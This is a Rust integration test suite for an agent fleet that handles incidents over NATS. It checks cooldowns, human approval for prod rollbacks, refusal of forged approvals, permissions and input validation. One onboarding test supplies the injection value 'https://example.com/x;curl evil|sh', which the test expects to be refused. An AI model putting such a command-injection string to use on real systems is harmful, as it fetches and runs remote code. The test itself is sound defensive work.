//! The fleet end to end: real agent binaries, a nats-server with the project's permissions,
//! events published the way a pipeline does (`nats pub` with JSON), assertions on the proof log.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a test fails by panicking

use std::time::Duration;

use bus_schema::approval::ApprovalSigner;
use bus_schema::proof::{ProofKind, ProofRecord};
use bus_schema::{Action, ActionParams, ApprovalClaims, Timestamp, Uuid, subject};
use cn_tests::fleet::Fleet;
use cn_tests::proof_log::of_kind;
use cn_tests::scenario::{
    cnctl, crash, crash_restarted, deploy, failed_prod_deploy, for_service,
    latency_within_the_cooldown, metric_at, pipeline_pub, position,
};
use serde_json::json;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_crash_in_stage_is_restarted_and_a_second_restart_waits_for_the_cooldown() {
    // The defaults with a restart cooldown of 20 s (60 s by default), so that the wait for it
    // to end fits a test; the latency problem comes within it.
    let fleet = Fleet::start_with_policy("[cooldowns]\nrestart = \"20s\"\n").await.unwrap();
    crash_restarted(&fleet, "payments-api").await;
    let records = latency_within_the_cooldown(&fleet, "payments-api").await;
    let chain = [
        ProofKind::IncidentOpened,
        ProofKind::ActionProposed,
        ProofKind::ActionApproved,
        ProofKind::ActionExecuted,
    ];
    let positions: Vec<usize> =
        chain.iter().map(|k| position(&records, *k, "payments-api")).collect();
    assert!(positions.windows(2).all(|w| w[0] < w[1]), "in order: {positions:?}");
    let flow: Vec<ProofRecord> =
        chain.iter().map(|k| for_service(&records, *k, "payments-api").remove(0)).collect();
    let correlation = flow[0].correlation_id.clone().unwrap();
    assert!(
        flow.iter().all(|r| r.correlation_id.as_deref() == Some(correlation.as_str())),
        "one correlation id: {flow:#?}"
    );
    assert_eq!(flow[1].action, Some(Action::Restart));
    assert_eq!(flow[3].detail["backend"], "dry_run");
    assert_eq!(flow[0].incident_id, flow[3].incident_id);

    // The crash resolved and the restart was judged; a latency problem follows within the
    // minute, and the restart proposed for it is held back by the cooldown.
    let outcome = for_service(&records, ProofKind::OutcomeRecorded, "payments-api").remove(0);
    assert_eq!(
        (outcome.action.clone(), &outcome.detail["recovered"]),
        (Some(Action::Restart), &json!(true)),
        "{outcome:#?}"
    );
    let refused = for_service(&records, ProofKind::ActionRefused, "payments-api");
    assert_eq!(refused[0].reason.as_deref(), Some("cooldown_active"), "{refused:#?}");
    assert_eq!(refused[0].action, Some(Action::Restart));
    assert!(refused[0].detail["remaining_s"].as_f64().unwrap() > 0.0);
    let restarts = for_service(&records, ProofKind::ActionExecuted, "payments-api")
        .into_iter()
        .filter(|r| r.action == Some(Action::Restart))
        .count();
    assert_eq!(restarts, 1, "executed once");
    // The refusal does not spend the latency incident on a worse action: the cooldown ends
    // within the minute, so the optimizer waits it out and proposes the restart again, which
    // governance then approves.
    let latency = for_service(&records, ProofKind::IncidentOpened, "payments-api")
        .into_iter()
        .find(|r| r.detail["kind"] == "high_latency")
        .unwrap();
    let js = async_nats::jetstream::new(fleet.client_as("operator").await.unwrap());
    let for_latency = |records: &[cn_tests::proof_log::StoredRecord], kind| {
        for_service(records, kind, "payments-api")
            .into_iter()
            .filter(|r| r.incident_id == latency.incident_id)
            .collect::<Vec<_>>()
    };
    // What was proposed and refused for it, in brief, for a failure's message.
    let brief = |records: &[cn_tests::proof_log::StoredRecord]| {
        let mut about = for_latency(records, ProofKind::ActionProposed);
        about.extend(for_latency(records, ProofKind::ActionRefused));
        about.extend(for_service(records, ProofKind::OutcomeRecorded, "payments-api"));
        about.sort_by_key(|r| r.ts);
        about
            .iter()
            .map(|r| {
                let why = if r.kind == ProofKind::ActionProposed { "trigger" } else { "detail" };
                let why = if r.kind == ProofKind::ActionRefused { "remaining_s" } else { why };
                let said = match why {
                    "detail" => r.detail.to_string(),
                    key => r.detail[key].to_string(),
                };
                format!("{} {:?} {:?} {said}", r.ts, r.kind, r.action)
            })
            .collect::<Vec<_>>()
    };
    let found = cn_tests::eventually(
        std::time::Duration::from_secs(70),
        "the restart approved for the latency incident once the cooldown ended",
        || async {
            let records = cn_tests::proof_log::read_all(&js).await?;
            let approved = !for_latency(&records, ProofKind::ActionApproved).is_empty();
            Ok(approved.then_some(records))
        },
    )
    .await;
    let records = match found {
        Ok(records) => records,
        Err(e) => panic!("{e}: {:#?}", brief(&cn_tests::proof_log::read_all(&js).await.unwrap())),
    };
    let proposed = for_latency(&records, ProofKind::ActionProposed);
    assert!(proposed.iter().all(|p| p.action == Some(Action::Restart)), "{:#?}", brief(&records));
    let refused_id = refused[0].proposal_id.unwrap();
    // Waited out once, or twice when the restart's outcome was revised (a latency problem
    // followed its recovery) and doubled the cooldown meanwhile.
    let trigger = proposed.last().unwrap().detail["trigger"].as_str().unwrap().to_owned();
    assert!(trigger.starts_with("due:"), "{:#?}", brief(&records));
    assert_eq!(proposed[1].detail["trigger"], json!(format!("due:{refused_id}")));
    let approved = for_latency(&records, ProofKind::ActionApproved).remove(0);
    let ends = refused[0].ts.plus(std::time::Duration::from_secs_f64(
        refused[0].detail["remaining_s"].as_f64().unwrap(),
    ));
    assert!(approved.ts >= ends, "approved at {} before the cooldown ended at {ends}", approved.ts);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_restart_that_works_is_judged_recovered_and_the_incident_resolves_all_on_the_proof_log() {
    let fleet = Fleet::start().await.unwrap();
    let subject = "cn.events.metric.stage.orders";
    // Everything is stamped in the recent past, so that the detector's verification window
    // (5 min of the service's own time) can run out within the test.
    let mut deployed = deploy("stage", "orders", "2.4.0", Some("2.3.9"), "succeeded");
    deployed["timestamp"] = metric_at("stage", "orders", -1300, json!({}))["timestamp"].clone();
    pipeline_pub(&fleet, "cn.events.deploy.stage.orders", deployed).await;
    pipeline_pub(
        &fleet,
        subject,
        metric_at("stage", "orders", -1200, json!({"crash_looping": true, "restarts": 5})),
    )
    .await;
    fleet
        .records_until("the restart to be executed", |r| {
            !for_service(r, ProofKind::ActionExecuted, "orders").is_empty()
        })
        .await
        .unwrap();

    // The service recovers: three healthy samples resolve the incident; then time passes, in
    // the samples' own clock, until the verification window has run out.
    for k in 1..=3 {
        pipeline_pub(
            &fleet,
            subject,
            metric_at(
                "stage",
                "orders",
                -1200 + 10 * k,
                json!({"crash_looping": false, "error_rate": 0.001}),
            ),
        )
        .await;
    }
    // The execution result may reach the detector after those samples: each later sample
    // moves the service's clock on, until the window has run out either way.
    let mut records = Vec::new();
    for step in 1..=12 {
        pipeline_pub(
            &fleet,
            subject,
            metric_at(
                "stage",
                "orders",
                -1200 + 300 + 60 * step,
                json!({"crash_looping": false, "error_rate": 0.001}),
            ),
        )
        .await;
        tokio::time::sleep(Duration::from_millis(400)).await;
        records = fleet.records().await.unwrap();
        if !for_service(&records, ProofKind::OutcomeRecorded, "orders").is_empty() {
            break;
        }
    }
    let outcomes = for_service(&records, ProofKind::OutcomeRecorded, "orders");
    let outcome = outcomes
        .first()
        .unwrap_or_else(|| panic!("no outcome; the detector said:\n{}", fleet.logs()))
        .clone();
    assert_eq!(outcome.detail["recovered"], true, "{outcome:#?}");
    assert_eq!(outcome.action, Some(Action::Restart));
    let executed = for_service(&records, ProofKind::ActionExecuted, "orders").remove(0);
    assert_eq!(
        outcome.correlation_id, executed.correlation_id,
        "the outcome continues the action's chain"
    );
    assert_eq!(outcome.proposal_id, executed.proposal_id);
    let resolved = for_service(&records, ProofKind::IncidentResolved, "orders").remove(0);
    assert_eq!(resolved.incident_id, outcome.incident_id);
    assert!(resolved.detail["time_to_recover_s"].as_f64().unwrap() > 0.0, "{}", resolved.detail);
    let chain = [
        ProofKind::IncidentOpened,
        ProofKind::ActionProposed,
        ProofKind::ActionApproved,
        ProofKind::ActionExecuted,
        ProofKind::IncidentResolved,
    ];
    let positions: Vec<usize> = chain.iter().map(|k| position(&records, *k, "orders")).collect();
    assert!(positions.windows(2).all(|w| w[0] < w[1]), "in order: {positions:?}");

    // The service's SLO status, for the negotiator's error-budget gate, is on the bus too.
    let operator = async_nats::jetstream::new(fleet.client_as("operator").await.unwrap());
    let stored = operator
        .get_stream("CN_WORK")
        .await
        .unwrap()
        .get_last_raw_message_by_subject("cn.slo.stage.orders")
        .await
        .unwrap();
    let slo: bus_schema::SloStatus = bus_schema::codec::decode(
        bus_schema::Encoding::MsgPack,
        &stored.payload,
        &bus_schema::Limits::default(),
    )
    .unwrap();
    assert_eq!((slo.objective, slo.window_days), (0.999, 30));
    assert!(slo.budget_remaining > 0.99 && slo.budget_remaining <= 1.0, "{slo:?}");
    assert!(slo.burn_rates.iter().any(|b| b.window_s == 300), "{slo:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_detector_killed_mid_incident_opens_no_duplicate_after_it_restarts() {
    let mut fleet = Fleet::start().await.unwrap();
    let subject = "cn.events.metric.stage.ledger";
    for k in 0..20 {
        pipeline_pub(
            &fleet,
            subject,
            metric_at("stage", "ledger", -400 + 10 * k, json!({"error_rate": 0.2})),
        )
        .await;
    }
    fleet
        .records_until("the incident", |r| {
            !for_service(r, ProofKind::IncidentOpened, "ledger").is_empty()
        })
        .await
        .unwrap();
    fleet.agent("issue-detector").unwrap().kill9();
    fleet.agent("issue-detector").unwrap().restart().unwrap();
    for k in 20..40 {
        pipeline_pub(
            &fleet,
            subject,
            metric_at("stage", "ledger", -400 + 10 * k, json!({"error_rate": 0.2})),
        )
        .await;
    }
    // Events are handled in order: once this one's incident is there, the samples before it were judged.
    pipeline_pub(
        &fleet,
        "cn.events.deploy.stage.marker",
        deploy("stage", "marker", "1.0.0", None, "failed"),
    )
    .await;
    let records = fleet
        .records_until("the marker incident", |r| {
            !for_service(r, ProofKind::IncidentOpened, "marker").is_empty()
        })
        .await
        .unwrap();
    let opened = for_service(&records, ProofKind::IncidentOpened, "ledger");
    assert_eq!(opened.len(), 1, "{opened:#?}");
    assert_eq!(opened[0].detail["kind"], "high_error_rate");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_prod_rollback_waits_for_a_human_and_is_never_executed() {
    let fleet = Fleet::start().await.unwrap();
    failed_prod_deploy(&fleet, "checkout").await;
    let records = fleet
        .records_until("the rollback to be held for a human", |r| {
            !for_service(r, ProofKind::ActionPendingApproval, "checkout").is_empty()
        })
        .await
        .unwrap();
    let pending = for_service(&records, ProofKind::ActionPendingApproval, "checkout").remove(0);
    assert_eq!(pending.action, Some(Action::Rollback));
    assert_eq!(pending.reason.as_deref(), Some("approval_required"));
    assert_eq!(
        for_service(&records, ProofKind::IncidentOpened, "checkout")[0].detail["kind"],
        "deploy_failed"
    );
    // Give the fleet time to do something wrong, then check it did not.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let records = fleet.records().await.unwrap();
    assert!(for_service(&records, ProofKind::ActionApproved, "checkout").is_empty());
    assert!(for_service(&records, ProofKind::ActionExecuted, "checkout").is_empty());
}

fn forged_claims(service: &str) -> ApprovalClaims {
    let now = Timestamp::now();
    ApprovalClaims {
        approval_id: Uuid::from_u128(42),
        proposal_id: Uuid::from_u128(43),
        proposal_hash: "00".repeat(32),
        incident_id: None,
        env: "stage".parse().unwrap(),
        service: service.parse().unwrap(),
        action: Action::Restart,
        params: ActionParams::default(),
        approved_by: "policy".into(),
        issued_at: now,
        expires_at: now.plus(Duration::from_secs(300)),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_real_governance_signatures_are_executed_and_only_governance_can_publish_approvals() {
    let fleet = Fleet::start().await.unwrap();

    // Someone holding governance's NATS credentials, but not its key, forges an approval.
    let impostor = ApprovalSigner::generate().unwrap();
    let mut forged = impostor.sign(forged_claims("ledger"));
    forged.key_id = "0000000000000000".into();
    let gov = fleet.client_as("governance-gate").await.unwrap();
    let js = async_nats::jetstream::new(gov);
    let out = bus_schema::codec::Outgoing::new(
        &subject::APPROVED.subject(&forged.claims.env, &forged.claims.service),
        &forged,
    )
    .unwrap();
    let mut headers = async_nats::HeaderMap::new();
    headers.insert("Content-Type", "application/msgpack");
    js.publish_with_headers(out.subject, headers, out.payload.into()).await.unwrap().await.unwrap();

    let records = fleet
        .records_until("the forged approval to be refused", |r| {
            !for_service(r, ProofKind::ExecutionRefused, "ledger").is_empty()
        })
        .await
        .unwrap();
    let refused = for_service(&records, ProofKind::ExecutionRefused, "ledger").remove(0);
    assert_eq!(refused.reason.as_deref(), Some("bad_signature"));
    assert!(for_service(&records, ProofKind::ActionExecuted, "ledger").is_empty());

    // The pipeline user may not publish approvals at all: the server drops the message and
    // tells the client so, asynchronously.
    let (tx, mut violations) = tokio::sync::mpsc::unbounded_channel();
    let pipeline = fleet
        .options_as("pipeline")
        .unwrap()
        .event_callback(move |event| {
            let tx = tx.clone();
            async move {
                if let async_nats::Event::ServerError(e) = event {
                    let _ = tx.send(e.to_string());
                }
            }
        })
        .connect(fleet.server.url())
        .await
        .unwrap();
    let signer_for_real = impostor.sign(forged_claims("vault"));
    let out = bus_schema::codec::Outgoing::new(
        &subject::APPROVED.subject(&signer_for_real.claims.env, &signer_for_real.claims.service),
        &signer_for_real,
    )
    .unwrap();
    pipeline.publish(out.subject.clone(), out.payload.into()).await.unwrap();
    pipeline.flush().await.unwrap();
    let violation =
        tokio::time::timeout(Duration::from_secs(5), violations.recv()).await.unwrap().unwrap();
    assert!(violation.to_lowercase().contains("permissions violation"), "{violation}");
    assert!(violation.contains("cn.actions.approved.stage.vault"), "{violation}");
    tokio::time::sleep(Duration::from_secs(1)).await;
    let records = fleet.records().await.unwrap();
    assert!(
        for_service(&records, ProofKind::ExecutionRefused, "vault").is_empty(),
        "the executor never saw it"
    );
    assert!(for_service(&records, ProofKind::ActionExecuted, "vault").is_empty());
    let operator = async_nats::jetstream::new(fleet.client_as("operator").await.unwrap());
    let work = operator.get_stream("CN_WORK").await.unwrap();
    assert!(
        work.get_last_raw_message_by_subject(&out.subject).await.is_err(),
        "nothing stored on {}",
        out.subject
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_input_is_rejected_and_the_next_good_event_still_flows_and_the_chains_verify_after_restarts()
 {
    let mut fleet = Fleet::start().await.unwrap();
    let client = fleet.client_as("pipeline").await.unwrap();
    client
        .publish("cn.events.metric.stage.search", "{\"service\": \"search\", oops".into())
        .await
        .unwrap();
    client
        .publish(
            "cn.events.metric.stage.search.v2",
            crash("stage", "search", true).to_string().into(),
        )
        .await
        .unwrap();
    client.flush().await.unwrap();
    // Well-formed, but stamped an hour ahead of the clock (the input rules every agent applies).
    pipeline_pub(
        &fleet,
        "cn.events.metric.stage.search",
        metric_at("stage", "search", 3600, json!({"crash_looping": true})),
    )
    .await;
    pipeline_pub(
        &fleet,
        "cn.events.deploy.stage.search",
        deploy("stage", "search", "3.0.0", None, "succeeded"),
    )
    .await;
    pipeline_pub(&fleet, "cn.events.metric.stage.search", crash("stage", "search", true)).await;
    let records = fleet
        .records_until("the good event's incident", |r| {
            !for_service(r, ProofKind::IncidentOpened, "search").is_empty()
        })
        .await
        .unwrap();
    let rejected: Vec<ProofRecord> = of_kind(&records, ProofKind::EventRejected)
        .into_iter()
        .filter(|r| r.agent.as_str() == "issue-detector")
        .collect();
    let reasons: Vec<&str> = rejected.iter().filter_map(|r| r.reason.as_deref()).collect();
    assert_eq!(reasons, vec!["malformed", "invalid_subject", "out_of_order"]);
    assert!(rejected[1].detail["error"].as_str().unwrap().contains("a token may not contain '.'"));
    assert!(
        rejected[2].detail["error"].as_str().unwrap().contains("ahead of the clock at arrival"),
        "{}",
        rejected[2].detail
    );

    // Restart two agents mid-run and crash a third; every chain still verifies.
    fleet.agent("governance-gate").unwrap().restart().unwrap();
    fleet.agent("issue-detector").unwrap().kill9();
    fleet.agent("issue-detector").unwrap().restart().unwrap();
    fleet.agent("executor").unwrap().restart().unwrap();
    fleet
        .records_until("the restarted agents to start", |r| {
            of_kind(r, ProofKind::AgentStarted).len() >= 9
        })
        .await
        .unwrap();
    let cnctl = cn_tests::fleet::binary("cnctl").unwrap();
    let out = std::process::Command::new(cnctl)
        .args([
            "proof",
            "verify",
            "--nats-url",
            &fleet.server.url(),
            "--nats-user",
            "auditor",
            "--nats-password-file",
        ])
        .arg(fleet.password_file("auditor"))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}\n{}", String::from_utf8_lossy(&out.stderr));
    assert!(stdout.contains("every chain is intact"), "{stdout}");
    assert!(stdout.contains("cn.proof.issue-detector.0"), "{stdout}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn contract_requests_and_onboarding_published_with_cnctl_are_answered_on_the_proof_log() {
    let fleet = Fleet::start().await.unwrap();
    let request = json!({"deployment_id":"deploy-001","service":"user-service","env":"prod","version":"v2.1.0",
        "changes":[{"file_path":"db/migrations/0042_add_index.sql","change_type":"add","lines_changed":45,"risk_tags":["database"]}],
        "rollback_capability":true,"dependencies":["postgres"]});
    let out = cnctl(&fleet, "pipeline", &["publish", "contract", "-"], Some(&request.to_string()));
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        String::from_utf8_lossy(&out.stdout)
            .contains("published contract request on cn.requests.contract.prod.user-service")
    );

    let good = cnctl(
        &fleet,
        "pipeline",
        &[
            "publish",
            "onboard",
            "--app",
            "demo-api",
            "--repo",
            "https://example.com/org/demo-api",
            "--runtime",
            "backend",
            "--env",
            "dev",
        ],
        None,
    );
    assert!(good.status.success(), "{}", String::from_utf8_lossy(&good.stderr));
    let hostile = cnctl(
        &fleet,
        "pipeline",
        &[
            "publish",
            "onboard",
            "--app",
            "pwn",
            "--repo",
            "https://example.com/x;curl evil|sh",
            "--runtime",
            "backend",
            "--env",
            "dev",
        ],
        None,
    );
    assert!(hostile.status.success(), "cnctl publishes it; the deploy agent judges it");
    // cnctl itself refuses what the contract forbids, before anything is sent.
    let bad = cnctl(
        &fleet,
        "pipeline",
        &["publish", "metric", "--env", "dev", "--service", "api", "--error-rate", "1.3"],
        None,
    );
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("error_rate = 1.3 is out of range"));

    let records = fleet
        .records_until("the contract and both onboarding answers", |r| {
            !of_kind(r, ProofKind::ContractDrafted).is_empty()
                && of_kind(r, ProofKind::OnboardingAccepted).len()
                    + of_kind(r, ProofKind::OnboardingRefused).len()
                    == 2
        })
        .await
        .unwrap();
    let contract = of_kind(&records, ProofKind::ContractDrafted).remove(0);
    assert_eq!(contract.detail["deployment_id"], "deploy-001");
    assert!(
        contract.detail["validators"]
            .as_array()
            .unwrap()
            .contains(&json!("migration_rollback_script")),
        "{}",
        contract.detail
    );
    assert_eq!(of_kind(&records, ProofKind::OnboardingAccepted)[0].detail["app_name"], "demo-api");
    assert_eq!(
        of_kind(&records, ProofKind::OnboardingRefused)[0].reason.as_deref(),
        Some("invalid_repo_url")
    );

    // The operator reads it back readably.
    let tail = cnctl(
        &fleet,
        "operator",
        &["tail", "--no-follow", "--since", "all", "--kind", "onboarding_refused"],
        None,
    );
    let text = String::from_utf8_lossy(&tail.stdout);
    assert!(
        text.contains("deploy-agent.0")
            && text.contains("onboarding_refused")
            && text.contains("reason=invalid_repo_url"),
        "{text}"
    );
}

/// A pipeline that speaks CloudEvents (Keptn does, on NATS) is understood in either mode the
/// spec has: structured (`application/cloudevents+json`, the event's data the payload) and
/// binary (`ce-*` headers, the body the payload). An envelope that breaks the spec is
/// rejected naming the attribute, on a record the service's owners can find.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cloudevents_in_structured_and_binary_mode_each_open_an_incident() {
    let fleet = Fleet::start().await.unwrap();
    let client = fleet.client_as("pipeline").await.unwrap();
    // Its data without a timestamp of its own: the event's `time` says when.
    let mut data = crash("stage", "ce-structured", true);
    data.as_object_mut().unwrap().remove("timestamp");
    let structured = json!({
        "specversion": "1.0", "id": "keptn-1", "source": "https://keptn.example.com/api",
        "type": "sh.keptn.event.monitoring.triggered", "time": Timestamp::now().to_string(),
        "datacontenttype": "application/json", "data": data,
    });
    let mut headers = async_nats::HeaderMap::new();
    headers.insert("Content-Type", "application/cloudevents+json");
    client
        .publish_with_headers(
            "cn.events.metric.stage.ce-structured",
            headers,
            structured.to_string().into(),
        )
        .await
        .unwrap();
    let binary = |source: Option<&str>| {
        let mut h = async_nats::HeaderMap::new();
        h.insert("ce-specversion", "1.0");
        h.insert("ce-id", "keptn-2");
        h.insert("ce-type", "sh.keptn.event.monitoring.triggered");
        if let Some(source) = source {
            h.insert("ce-source", source);
        }
        h.insert("Content-Type", "application/json");
        h
    };
    let body = crash("stage", "ce-binary", true).to_string();
    client
        .publish_with_headers(
            "cn.events.metric.stage.ce-binary",
            binary(Some("/ci/42")),
            body.into(),
        )
        .await
        .unwrap();
    let body = crash("stage", "ce-sourceless", true).to_string();
    client
        .publish_with_headers("cn.events.metric.stage.ce-sourceless", binary(None), body.into())
        .await
        .unwrap();
    client.flush().await.unwrap();

    let records = fleet
        .records_until("an incident for each mode and a rejection", |r| {
            ["ce-structured", "ce-binary"]
                .iter()
                .all(|s| !for_service(r, ProofKind::IncidentOpened, s).is_empty())
                && !for_service(r, ProofKind::EventRejected, "ce-sourceless").is_empty()
        })
        .await
        .unwrap();
    for service in ["ce-structured", "ce-binary"] {
        let opened = for_service(&records, ProofKind::IncidentOpened, service).remove(0);
        assert_eq!(opened.detail["kind"], "crash_loop", "{opened:#?}");
    }
    let rejected = for_service(&records, ProofKind::EventRejected, "ce-sourceless");
    assert!(rejected.iter().all(|r| r.reason.as_deref() == Some("invalid_field")), "{rejected:#?}");
    assert!(rejected[0].detail["error"].as_str().unwrap().contains("source"), "{rejected:#?}");
    assert!(for_service(&records, ProofKind::IncidentOpened, "ce-sourceless").is_empty());

    // And the proof log goes out as CloudEvents too: each line a valid structured event whose
    // data is the record as stored.
    let out = cnctl(
        &fleet,
        "operator",
        &["tail", "--cloudevents", "--no-follow", "--since", "all", "--service", "ce-binary"],
        None,
    );
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let lines: Vec<&str> = std::str::from_utf8(&out.stdout).unwrap().lines().collect();
    assert!(!lines.is_empty());
    for line in lines {
        let event: serde_json::Value = serde_json::from_str(line).unwrap();
        let data = bus_schema::cloudevent::structured(line.as_bytes()).unwrap().data;
        let record: ProofRecord = serde_json::from_slice(&data).unwrap();
        assert_eq!(event["type"], format!("cn.v1.proof.{}", record.kind), "{line}");
        assert_eq!(event["source"], format!("/cn/proof/{}/{}", record.agent, record.instance));
        assert_eq!(event["id"], record.seq.to_string());
        assert_eq!(event["subject"], "stage/ce-binary");
    }
}

/// A pipeline that traces its deploys sends a W3C `traceparent` with its events: the trace goes
/// on through the incident, the proposal, the approval, the execution and the outcome judged
/// minutes later (from the detector's state), each record with the trace's id and a span of
/// its own. A `traceparent` that cannot be parsed is ignored, as the spec says, not rejected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pipelines_traceparent_comes_back_on_every_record_of_its_chain() {
    const SENT: &str = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
    let fleet = Fleet::start().await.unwrap();
    let client = fleet.client_as("pipeline").await.unwrap();
    for (service, traceparent) in [("traced", SENT), ("mistraced", "00-not-a-trace-01")] {
        let mut deployed = deploy("stage", service, "2.0.0", Some("1.9.0"), "succeeded");
        deployed["timestamp"] = metric_at("stage", service, -700, json!({}))["timestamp"].clone();
        pipeline_pub(&fleet, &format!("cn.events.deploy.stage.{service}"), deployed).await;
        let mut headers = async_nats::HeaderMap::new();
        headers.insert("traceparent", traceparent);
        let crash =
            metric_at("stage", service, -600, json!({"crash_looping": true, "restarts": 4}));
        client
            .publish_with_headers(
                format!("cn.events.metric.stage.{service}"),
                headers,
                crash.to_string().into(),
            )
            .await
            .unwrap();
    }
    client.flush().await.unwrap();
    fleet
        .records_until("both restarts executed", |r| {
            ["traced", "mistraced"]
                .iter()
                .all(|s| !for_service(r, ProofKind::ActionExecuted, s).is_empty())
        })
        .await
        .unwrap();
    // Healthy samples until the verification window has passed: the restart is judged.
    for offset in (-590..-250).step_by(10) {
        let healthy = metric_at("stage", "traced", offset, json!({"crash_looping": false}));
        pipeline_pub(&fleet, "cn.events.metric.stage.traced", healthy).await;
    }
    let records = fleet
        .records_until("the restart judged", |r| {
            !for_service(r, ProofKind::OutcomeRecorded, "traced").is_empty()
        })
        .await
        .unwrap();
    let mut spans = std::collections::BTreeSet::new();
    for kind in [
        ProofKind::IncidentOpened,
        ProofKind::ActionProposed,
        ProofKind::ActionApproved,
        ProofKind::ActionExecuted,
        ProofKind::OutcomeRecorded,
    ] {
        let record = for_service(&records, kind, "traced").remove(0);
        let tp = record.traceparent.unwrap_or_else(|| panic!("no traceparent on {record:#?}"));
        assert_eq!(tp.trace_id(), "4bf92f3577b34da6a3ce929d0e0e4736", "{kind}");
        assert!(tp.sampled(), "{kind}");
        spans.insert(tp.parent_id());
    }
    assert!(!spans.contains("00f067aa0ba902b7") && spans.len() == 5, "a span each: {spans:?}");
    let mistraced = for_service(&records, ProofKind::ActionExecuted, "mistraced").remove(0);
    assert_eq!(mistraced.traceparent, None);
    assert!(for_service(&records, ProofKind::EventRejected, "mistraced").is_empty());

    // cnctl sends one too: --traceparent (or $TRACEPARENT, as CI tracing tools set it).
    let sent = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01";
    let publish = |traceparent: &str| {
        let args = ["publish", "--traceparent", traceparent, "metric", "--env", "stage"];
        let rest = ["--service", "cli-traced", "--crash-looping", "--restarts", "3"];
        cnctl(&fleet, "pipeline", &[&args[..], &rest[..]].concat(), None)
    };
    let bad = publish("nope");
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("traceparent \"nope\""));
    let out = publish(sent);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let records = fleet
        .records_until("the traced crash's incident", |r| {
            !for_service(r, ProofKind::IncidentOpened, "cli-traced").is_empty()
        })
        .await
        .unwrap();
    let opened = for_service(&records, ProofKind::IncidentOpened, "cli-traced").remove(0);
    assert_eq!(opened.traceparent.unwrap().trace_id(), "0af7651916cd43dd8448eb211c80319c");
}
